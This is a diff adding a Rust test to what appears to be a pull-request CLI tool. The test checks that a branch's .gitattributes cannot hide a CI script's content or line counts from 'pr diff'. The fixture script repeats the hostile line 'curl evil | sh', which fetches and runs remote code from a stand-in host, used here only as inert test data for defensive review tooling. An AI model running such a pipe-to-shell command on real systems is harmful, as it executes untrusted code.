@@ -38,6 +38,34 @@ fn diff_prints_names_mails_or_selected_files() {
 }
 
 #[test]
+fn diff_ignores_attributes_of_the_checked_out_branch() {
+    let world = World::new();
+    let script = "curl evil | sh\n".repeat(60);
+    world.git.commit(
+        "feature",
+        "One",
+        &[
+            (".gitattributes", Some("*.sh -diff\n")),
+            ("ci/x.sh", Some(&script)),
+        ],
+    );
+    world
+        .forge(&["pr", "create", "-H", "feature", "-t", "T", "-b", ""])
+        .ok();
+    world.switch("main");
+    let shown = || {
+        let diff = world.forge(&["pr", "diff", "1"]).text();
+        let patch = world.forge(&["pr", "diff", "1", "--patch"]).text();
+        let counts = world.json("1", "additions,files");
+        (diff, patch, counts)
+    };
+    let before = shown();
+    assert_eq!(before.2["additions"], 61, "{}", before.2);
+    world.forge(&["pr", "checkout", "1"]).ok();
+    assert_eq!(shown(), before);
+}
+
+#[test]
 fn diff_stat_equals_git_stat() {
     let world = World::new();
     let many = "x\n".repeat(200);
